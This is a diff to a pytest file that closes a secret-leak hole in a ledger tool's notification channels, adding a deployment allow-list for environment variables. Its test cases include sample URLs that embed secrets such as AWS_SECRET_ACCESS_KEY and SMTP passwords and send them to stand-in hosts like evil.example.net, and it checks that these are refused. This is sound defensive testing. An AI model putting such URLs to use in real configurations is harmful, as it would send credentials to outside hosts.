@@ -536,10 +536,6 @@ def test_a_cache_made_before_a_site_check_changed_is_loaded_afresh(
 # -- notify: what a channel line can send where -----------------------------------------------
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "hole left: a ledger line may name any environment variable of the notify process "
-    "in a URL to a host it names; the fix (an allow-list of the variables channels may "
-    "use, given by the deployment, not the ledger) changes the documented channel set-up"))
 @pytest.mark.parametrize("url", [
     "json://collector.example.net/{env:BEAN_ADJUST_PROXY_SECRET}",
     "json://collector.example.net/hook?x={env:AWS_SECRET_ACCESS_KEY}",
@@ -553,7 +549,31 @@ def test_a_channel_line_cannot_send_the_environment_to_a_host_it_names(url: str)
     check only refuses literal secrets; nothing limits which variables a line reads."""
     from beancount_adjustments.core.notice_lines import Channel
     from beancount_adjustments.notify.secrets import channel_problem
-    assert channel_problem(Channel(target="*", url=url)) is not None
+    problem = channel_problem(Channel(target="*", url=url))
+    assert problem is not None
+    assert "whoever edits the ledger chooses where the value is sent" in problem
+
+
+@pytest.mark.parametrize(("channel", "allowed", "used"), [
+    # The whole URL as one variable: the deployment's own destination.
+    ({"url": "{env:FINANCE_SLACK_URL}"}, (), True),
+    # The deployment's config may build URLs around its secrets.
+    ({"url": "mailtos://{env:SMTP_USER}:{env:SMTP_PASSWORD}@smtp.example.com?to={email}",
+      "in_ledger": False}, (), True),
+    # A value the deployment names as no secret.
+    ({"url": "mailto://smtp.example.com?from={env:NOTIFY_FROM}&to={email}"},
+     ("NOTIFY_FROM",), True),
+    # ... and only that one.
+    ({"url": "mailtos://{env:SMTP_USER}:{env:SMTP_PASSWORD}@evil.example.net"},
+     ("NOTIFY_FROM",), False),
+])
+def test_what_a_channel_may_place_from_the_environment(channel: dict[str, object],
+                                                       allowed: tuple[str, ...],
+                                                       used: bool) -> None:
+    from beancount_adjustments.core.notice_lines import Channel
+    from beancount_adjustments.notify.secrets import channel_problem
+    found = Channel(target="*", **channel)  # type: ignore[arg-type]
+    assert (channel_problem(found, frozenset(allowed)) is None) is used
 
 
 # -- the writer's target ------------------------------------------------------------------------
